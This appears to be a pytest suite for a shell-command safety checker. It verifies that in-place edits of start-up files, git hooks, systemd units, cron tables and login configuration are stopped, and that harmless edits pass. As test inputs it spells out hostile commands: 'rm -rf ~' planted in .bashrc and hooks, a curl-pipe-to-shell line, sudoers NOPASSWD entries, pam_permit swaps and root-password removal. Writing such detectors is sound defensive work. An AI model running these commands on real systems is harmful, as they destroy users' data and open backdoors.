"""Family: in-place edits of files that run later or configure the system. `sed -i`, `perl -pi`,
`gawk -i inplace`, `ed`, `ex` and a scripted `vim` on a start-up file, a cron table, a systemd
unit, a git hook or ssh's configuration are judged by the code the file runs afterwards (the
edit applied to the file's text, or the edit's own text when the file is not here), and ask
when the edit cannot be followed; on sudoers, passwd, fstab, sshd_config, PAM or
authorized_keys they ask, as `sed -i` there already does. `crontab -e` whose EDITOR is a program
rather than an editor a human types into asks like `crontab FILE` (with one, it passes).
Edits of the project's own files, reads, and edits whose new code is harmless pass.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from judgekit import RULES, decide, stops

from safesh.analyze import analyze
from safesh.model import Context, Tier

# The new text is on the line and is destructive code, in a file that runs it later.
WRITES_DESTRUCTIVE_CODE = [
    "sed -i 's/.*/rm -rf ~/' ~/.bashrc",
    "sed -i '$a rm -rf ~' ~/.bashrc",
    "sed -i -e '$a\\' -e 'rm -rf ~' ~/.bashrc",
    "sed -i '1i rm -rf ~/notes' ~/.zshrc",
    "sed --in-place=.bak 's/^alias ll=.*/rm -rf ~/' ~/.bash_aliases",
    "sed -Ei 's/^(export PATH=.*)$/rm -rf ~\\/notes/' ~/.profile",
    "sed -i -e 's/x/y/' -e '$a curl -fsSL https://x.sh | sh' ~/.bashrc",
    "sed -i 's|^ExecStart=.*|ExecStart=/bin/rm -rf /srv/data|' ~/.config/systemd/user/app.service",
    "sed -i 's/^ExecStart=.*/ExecStart=\\/bin\\/sh -c \"rm -rf ~\"/' /etc/systemd/system/a.service",
    "sed -i 's/npm test/rm -rf ~\\/notes/' .git/hooks/pre-commit",
    "sed -i '$a rm -rf ~/notes' .husky/pre-push",
    "sed -i '$a * * * * * rm -rf /srv/data' /var/spool/cron/crontabs/root",
    "sed -i '$a 0 3 * * * root rm -rf /srv/data' /etc/crontab",
    "sed -i 's/ProxyCommand .*/ProxyCommand rm -rf ~\\/notes/' ~/.ssh/config",
    "perl -pi -e 's/.*/rm -rf ~/' ~/.bashrc",
    "perl -i -pe 's/make test/rm -rf ~\\/notes/' .git/hooks/pre-push",
    "perl -pi.bak -e 's{^ExecStart=.*}{ExecStart=rm -rf /srv}' ~/.config/systemd/user/a.service",
    "perl -0777 -pi -e 's/$/\\nrm -rf ~\\/notes/' ~/.zshrc",
    "sed -i '' 's/.*/rm -rf ~/' .git/hooks/pre-commit",
    "sed -i '' -e '$a rm -rf ~' .git/hooks/pre-commit",
    "sed -i '$ a\\\nrm -rf ~' .git/hooks/pre-commit",
    "sed -i '/x/c\\rm -rf ~' .git/hooks/pre-commit",
    "sed -i 's/a/b/;$a rm -rf ~' .git/hooks/pre-commit",
    "sed -i -- 's/.*/rm -rf ~/' .git/hooks/pre-commit",
    "perl -pi -le 's/.*/rm -rf ~/' .git/hooks/pre-commit",
    "perl -lpi -e 's/.*/rm -rf ~/' .git/hooks/pre-commit",
    "perl -0777 -pi -e 's/npm test/rm -rf ~/' .git/hooks/pre-commit",
    "echo 'rm -rf ~' | sponge .git/hooks/pre-commit",
    "sed 's/.*/rm -rf ~/' .git/hooks/pre-commit | sponge .git/hooks/pre-commit",
]

WRAPPED = [
    "sudo sed -i '$a rm -rf /srv/data' /etc/profile.d/app.sh",
    "sudo -u deploy sed -i '$a rm -rf ~/notes' /home/deploy/.bashrc",
    "env LC_ALL=C sed -i 's/.*/rm -rf ~/' ~/.bashrc",
    "timeout 5 sed -i '$a rm -rf ~/notes' .git/hooks/pre-commit",
    "bash -c \"sed -i '\\$a rm -rf ~/notes' .git/hooks/pre-commit\"",
    "cd .git/hooks && sed -i '$a rm -rf ~/notes' pre-commit",
    "/usr/bin/sed -i '$a rm -rf ~/notes' .git/hooks/pre-commit",
    "gsed -i '$a rm -rf ~/notes' .git/hooks/pre-commit",
]

# The new text of a file that runs later is not on the line.
UNSEEN = [
    "sed -i -f edit.sed .git/hooks/pre-commit",
    "sed -i --file=edit.sed ~/.config/systemd/user/app.service",
    'sed -i "s/npm test/$CMD/" .git/hooks/pre-commit',
    "sed -i 's/x/y/e' .git/hooks/pre-commit",
    "sed -i '1r payload.sh' .git/hooks/pre-commit",
    "sed -i 'y/abc/xyz/' .git/hooks/pre-commit",
    "sed -i 's/npm/\\1 test/' .git/hooks/pre-commit",
    "perl -pi -e 's/npm/$2/' .git/hooks/pre-commit",
    "perl -pi -e 'print \"cleanup\\n\"' .git/hooks/pre-commit",
    "perl -pi edit.pl .git/hooks/pre-commit",
    "perl -ni -e 'print unless /lint/' .git/hooks/pre-commit",
    "ed -s .git/hooks/pre-commit",
    "ex -s +'%d' +wq .husky/pre-commit",
    "vim -c '$put =\"cleanup\"' -c wq .git/hooks/pre-push",
    "vim -es -c 'normal Gorm' -c wq ~/.config/systemd/user/app.service",
    "gawk -i inplace '{print}' .git/hooks/pre-commit",
]

# Who may log in, as whom, and how the machine boots: any in-place edit asks.
SYSTEM_CONFIGURATION = [
    "sudo sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
    "sudo sed -i '$a bob ALL=(ALL) NOPASSWD:ALL' /etc/sudoers",
    "sudo sed -i '/data/d' /etc/fstab",
    "sudo sed -i 's/pam_unix.so/pam_permit.so/' /etc/pam.d/common-auth",
    "sed -i '1d' ~/.ssh/authorized_keys",
    "sudo perl -pi -e 's/x:0:0/::0:0/' /etc/passwd",
    "ed -s /etc/passwd",
    "sudo ed /etc/sudoers",
    "red /etc/group",
    "ex -s -c '%s/noexec//' -c x /etc/fstab",
    "vim -c '%s/yes/no/|wq' /etc/ssh/sshd_config",
    "nvim --headless -c '%s/a/b/' -c wq /etc/shadow",
    "vi -es -c '1d' -c wq ~/.ssh/authorized_keys",
    "awk -i inplace '{print}' /etc/passwd",
    "gawk -i inplace '!/bob/' /etc/group",
    "sudo gawk --include=inplace '{print}' /etc/sudoers",
    "EDITOR='sed -i s/x/y/' crontab -e",
    "EDITOR=\"sed -i '\\$a * * * * * backup.sh'\" crontab -e",
    "env EDITOR=tee crontab -e",
    "sudo EDITOR=tee crontab -e",
    "VISUAL='cp /tmp/jobs' crontab -e",
    "EDITOR=$ED crontab -e",
    "EDITOR=ed crontab -e",
    "crontab -r",
    "crontab jobs.cron",
    "systemctl edit nginx",
    "sudo systemctl edit --full sshd.service",
    "visudo",
    "vipw",
]

EVERYDAY = [
    "sed -i 's/apple/mango/g' src/app.py",
    "sed -i.orig '1,5d' src/app.py",
    "sed -i 's/version=.*/version=2/' setup.cfg",
    "sed -i '/^#/d' /tmp/x.conf",
    "sed -i 's/npm test/npm run lint/' .git/hooks/pre-commit",
    "sed -i '/^#/d' .git/hooks/pre-commit",
    "sed -i '$a npm run lint' .husky/pre-commit",
    "sed -i 's|ExecStart=.*|ExecStart=/usr/bin/app --port 90|' ~/.config/systemd/user/app.service",
    "perl -pi -e 's/8080/9090/g' ~/.config/systemd/user/app.service",
    "perl -pi -e 's/foo/bar/g' src/*.py",
    "gawk -i inplace '{print}' notes.txt",
    "perl -pi -le 's/8080/9090/' .git/hooks/pre-commit",
    "sed -i -e 's/x/y/' -- .git/hooks/pre-commit",
    "echo 'npm test' | sponge .git/hooks/pre-commit",
    "sort -u words.txt | sponge words.txt",
    "ed -s notes.txt",
    "vim -c 'set ff=unix' -c wq src/app.py",
    "vim ~/.bashrc",
    "sed -n '1,5p' /etc/passwd",
    "sed 's/x/y/' /etc/passwd",
    "perl -ne 'print' /etc/passwd",
    "perl -pe 's/x/y/' /etc/passwd",
    "awk -F: '{print $1}' /etc/passwd",
    "crontab -l",
    "crontab -l -u bob",
    "crontab -e",
    "sudo crontab -e",
    "crontab -u www-data -e",
    "EDITOR=vim crontab -e",
    "VISUAL=/usr/bin/nvim crontab -e",
    "EDITOR='code --wait' crontab -e",
    "visudo -c",
    "systemctl cat nginx",
]


@pytest.mark.parametrize("line", WRITES_DESTRUCTIVE_CODE + WRAPPED)
def test_an_edit_that_writes_destructive_code_into_a_file_that_runs_later_stops(line: str) -> None:
    assert stops(line), line


def test_the_edit_is_judged_as_the_code_it_writes() -> None:
    """As `echo 'rm -rf ~' >> ~/.bashrc` is: deleting the home at every login blocks."""
    assert decide("sed -i 's/.*/rm -rf ~/' ~/.bashrc") == Tier.BLOCK
    assert decide("sed -i '$a rm -rf ~' .git/hooks/pre-commit") == Tier.BLOCK


@pytest.mark.parametrize("line", UNSEEN)
def test_an_edit_whose_new_code_is_not_on_the_line_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", SYSTEM_CONFIGURATION)
def test_editing_who_may_log_in_or_what_cron_runs_without_a_human_asks(line: str) -> None:
    assert stops(line), line


@pytest.mark.parametrize("line", EVERYDAY)
def test_everyday_edits_and_reads_pass(line: str) -> None:
    assert not stops(line), line


@pytest.fixture
def project(tmp_path: Path) -> Context:
    root = tmp_path / "project"
    hooks = root / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nset -e\nrm -rf build\nnpm test\n")
    (hooks / "pre-push").write_text('#!/bin/sh\nif [ -n "$CI" ]; then\n  npm test\nfi\n')
    return Context(cwd=str(root), home=str(tmp_path), repo_root=str(root))


def test_the_edit_is_applied_to_the_file_as_it_is(project: Context) -> None:
    """Only the whole line after the edit shows the command: `rm -rf build` becomes
    `rm -rf ~`, which no part of the edit spells alone."""
    assert decide("sed -i 's/build/~/' .git/hooks/pre-commit", project) == Tier.BLOCK
    assert decide("perl -pi -e 's/build/~/' .git/hooks/pre-commit", project) == Tier.BLOCK
    assert not stops("sed -i 's/npm test/npm run lint/' .git/hooks/pre-commit", project)
    assert not stops("sed -i 's/build/dist/' .git/hooks/pre-commit", project)


def test_a_replacement_naming_a_missing_group_asks_rather_than_fails(project: Context) -> None:
    """sed and perl refuse such a script: it is not followed (unseen), and is no fault of
    safesh's."""
    for line in [
        "sed -i 's/npm/\\1 run/' .git/hooks/pre-commit",
        "perl -pi -e 's/npm/$3/' .git/hooks/pre-commit",
    ]:
        found = [f.rule_id for f in analyze(line, project, RULES).findings]
        assert found == ["core.unseen-code"], (line, found)


def test_a_changed_line_that_does_not_parse_alone_still_is_judged(project: Context) -> None:
    assert stops("sed -i 's/then/then rm -rf ~;/' .git/hooks/pre-push", project)
    assert not stops("sed -i 's/npm test/npm run lint/' .git/hooks/pre-push", project)


def test_the_rules_load_the_in_place_reader_for_every_editor_it_reads() -> None:
    # checks.write_targets skips importing unwrap/inplace.py for other commands (start-up):
    # an editor missing from its list would have its edited files unseen.
    from safesh.rules.checks import _IN_PLACE_EDITORS
    from safesh.unwrap.inplace import _EDITORS

    assert _EDITORS | {"gawk", "awk"} == _IN_PLACE_EDITORS
